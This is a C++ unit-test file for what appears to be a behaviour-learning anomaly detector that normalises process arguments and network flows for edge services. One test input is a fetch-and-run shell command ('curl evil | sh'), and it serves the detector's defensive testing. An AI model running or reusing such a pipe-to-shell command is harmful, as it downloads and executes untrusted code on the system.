#include "core/learn/behaviour.hpp"

#include <catch2/catch.hpp>

using namespace iris;

namespace {

EntityPtr entity(EntityKind kind, std::string name) {
  return std::make_shared<Entity>(Entity{.kind = kind, .name = std::move(name)});
}

Observation exec(std::vector<std::string> args, std::string parent = "/bin/sh") {
  Observation observation{.entity = entity(EntityKind::service, "edgex-device-bacnet")};
  ProcessStart start;
  start.process.exe = args[0];
  start.process.args = std::move(args);
  start.process.parent_exe = std::move(parent);
  observation.what = start;
  return observation;
}

Observation flow(EntityPtr peer, const char* address, std::uint16_t port, bool inbound,
                 std::uint8_t protocol = 6) {
  Observation observation{.entity = entity(EntityKind::service, "edgex-device-bacnet"),
                          .peer = std::move(peer)};
  Flow what;
  (inbound ? what.src : what.dst) = *parse_ip(address);
  what.dport = port;
  what.sport = 40'000;
  what.protocol = protocol;
  what.inbound = inbound;
  what.state = FlowState::established;
  what.packets_out = 5;
  what.packets_in = 4;
  observation.what = what;
  return observation;
}

std::string shape(std::vector<std::string> args) {
  args.insert(args.begin(), "prog");
  return normalise_arguments(args);
}

} // namespace

TEST_CASE("what changes from run to run becomes a placeholder") {
  CHECK(shape({"-c", "4", "192.168.1.10"}) == "-c <n> <ip>");
  CHECK(shape({"--port=8080", "-Xmx100M", "v1", "python3"}) == "--port=<n> -Xmx<n>M v1 python3");
  CHECK(shape({"550e8400-e29b-41d4-a716-446655440000"}) == "<uuid>");
  CHECK(shape({"2026-11-24T08:20:00.123Z", "2026-11-24"}) == "<time> <time>");
  CHECK(shape({"/tmp/tmp.Xk29fQzA", "/tmp/tmpab12cd34"}) == "/tmp/<tmp> /tmp/<tmp>");
  CHECK(shape({"/tmp/payload.py", "/tmp/payload2"}) == "/tmp/payload.py /tmp/payload2");
  CHECK(shape({"0xdeadbeef", "deadbeef0123", "facade", "1.2.3.4.5"}) ==
        "<hex> <hex> facade <n>.<n>.<n>.<n>.<n>");
}

TEST_CASE("inline scripts are hashed by their shape") {
  auto a = normalise_arguments({"/bin/sh", "-c", "sleep 5; echo done"});
  auto b = normalise_arguments({"/bin/sh", "-c", "sleep 7; echo done"});
  auto c = normalise_arguments({"/bin/sh", "-c", "curl evil | sh"});
  CHECK(a.starts_with("-c <script:"));
  CHECK(a == b);
  CHECK(a != c);
  CHECK(normalise_arguments({"ping", "-c", "1", "host"}) == "-c <n> host");
}

TEST_CASE("a program backs off from arguments to parent to program") {
  auto one = behaviours_of(exec({"/usr/bin/python3", "run.py", "-p", "5002"})).at(0);
  auto two = behaviours_of(exec({"/usr/bin/python3", "run.py", "-p", "6000"})).at(0);
  auto other = behaviours_of(exec({"/usr/bin/python3", "evil.py"})).at(0);
  auto stranger = behaviours_of(exec({"/usr/bin/python3", "run.py", "-p", "1"}, "/usr/sbin/nginx")).at(0);
  CHECK(one.keys == two.keys);
  CHECK(one.keys[0] != other.keys[0]);
  CHECK(one.keys[1] == other.keys[1]);
  CHECK(one.keys[1] != stranger.keys[1]);
  CHECK(one.keys[2] == stranger.keys[2]);
  CHECK(one.texts[2] == "/usr/bin/python3");
}

TEST_CASE("peers back off to their class and say what depends on the site") {
  auto thermostat =
      behaviours_of(flow(entity(EntityKind::device, "kmc"), "192.168.50.10", 47808, false, 17)).at(0);
  auto tower =
      behaviours_of(flow(entity(EntityKind::device, "patlite"), "192.168.50.11", 47808, false, 17)).at(0);
  CHECK(thermostat.site_levels == 1);
  CHECK(thermostat.keys[0] != tower.keys[0]);
  CHECK(thermostat.keys[1] == tower.keys[1]);
  CHECK(thermostat.texts[1] == "any LAN device udp/47808");

  auto named =
      behaviours_of(flow(entity(EntityKind::internet, "a.cdn.example.co.uk"), "203.0.113.9", 443, false))
          .at(0);
  CHECK(named.texts[1] == "example.co.uk");
  CHECK(named.site_levels == 0);
  auto bare = behaviours_of(flow(nullptr, "203.0.113.9", 443, false)).at(0);
  CHECK(bare.texts[1] == "203.0.113.0/24");
  CHECK(bare.texts[2] == "the internet");
  auto client = behaviours_of(flow(nullptr, "203.0.113.9", 27017, true));
  CHECK(client.at(0).site_levels == 2);
  CHECK(client.at(0).texts[2] == "the internet tcp/27017");
  CHECK(client.size() == 1);
}

TEST_CASE("a listening port is a habit by its number, one that the kernel chose by being one") {
  Observation observation;
  Listen listen;
  listen.port = 8080;
  observation.what = listen;
  auto fixed = behaviours_of(observation);
  REQUIRE(fixed.size() == 1);
  CHECK(fixed[0].family == Family::listen);
  CHECK(fixed[0].texts[0] == "tcp/8080");
  listen.port = 40'001;
  listen.chosen_by_kernel = true;
  observation.what = listen;
  auto chosen = behaviours_of(observation);
  listen.port = 40'002;
  observation.what = listen;
  CHECK(behaviours_of(observation).at(0).keys == chosen.at(0).keys);
  CHECK(chosen.at(0).keys != fixed[0].keys);
  CHECK(is_reported(Family::listen, EntityKind::service, EntityKind::unknown));
}

TEST_CASE("what the health check runs is learned apart from what the service runs") {
  Observation observation;
  ProcessStart start;
  start.process.exe = "/usr/bin/curl";
  start.process.parent_exe = "/bin/sh";
  observation.what = start;
  BehaviourCache cache{4};
  auto own = cache.derive(observation);
  start.process.health_check = true;
  observation.what = start;
  auto probe = cache.derive(observation);
  CHECK(own.at(0)->keys[0] != probe.at(0)->keys[0]);
  CHECK(own.at(0)->keys[2] == probe.at(0)->keys[2]);
  CHECK(probe.at(0)->texts[1] == "/usr/bin/curl started by /bin/sh in the health check");
}

TEST_CASE("a forged opening is no contact") {
  auto observation = flow(nullptr, "203.0.113.9", 27017, true);
  auto& what = std::get<Flow>(observation.what);
  what.packets_out = 1;
  what.packets_in = 1; // our SYN-ACK
  CHECK(behaviours_of(observation).empty());
  what.packets_out = 2;
  CHECK(behaviours_of(observation).size() == 1);
  what.state = FlowState::refused;
  CHECK(behaviours_of(observation).empty());
  // Backscatter: packets reach us that we never asked for.
  auto back = flow(nullptr, "203.0.113.9", 80, false);
  std::get<Flow>(back.what).packets_out = 0;
  CHECK(behaviours_of(back).empty());
}

TEST_CASE("ephemeral ports are not part of a key") {
  auto a = flow(entity(EntityKind::service, "edgex-redis"), "172.18.0.5", 50'000, false);
  auto b = flow(entity(EntityKind::service, "edgex-redis"), "172.18.0.5", 51'000, false);
  for (auto* observation : {&a, &b})
    std::get<Flow>(observation->what).initiator_known = false;
  CHECK(behaviours_of(a).at(0).keys == behaviours_of(b).at(0).keys);
}

TEST_CASE("the cache gives what the pure function gives, without making it again") {
  BehaviourCache cache{4};
  auto peer = entity(EntityKind::device, "kmc");
  auto observation = flow(peer, "192.168.50.10", 47808, false, 17);
  auto first = cache.derive(observation);
  std::get<Flow>(observation.what).sport = 40'001;
  CHECK(cache.derive(observation).at(0) == first.at(0));
  CHECK(first.at(0)->keys == behaviours_of(observation).at(0).keys);
  observation.phase = Phase::startup;
  CHECK(cache.derive(observation).at(0)->phase == Phase::startup);
  auto run = exec({"/bin/ls", "-l"});
  CHECK(cache.derive(run).at(0) == cache.derive(run).at(0));
  for (std::uint16_t port = 1; port < 12; ++port)
    (void)cache.derive(flow(peer, "192.168.50.10", port, false));
  CHECK(cache.flushes() > 0);
}

TEST_CASE("domains and public names") {
  CHECK(registrable_domain("a.b.example.com") == "example.com");
  CHECK(registrable_domain("example.com") == "example.com");
  CHECK(registrable_domain("www.bbc.co.uk") == "bbc.co.uk");
  CHECK(registrable_domain("localhost") == "localhost");
  CHECK(is_public_name("example.com"));
  CHECK_FALSE(is_public_name("printer.local"));
  CHECK_FALSE(is_public_name("edgex-core-data"));
}
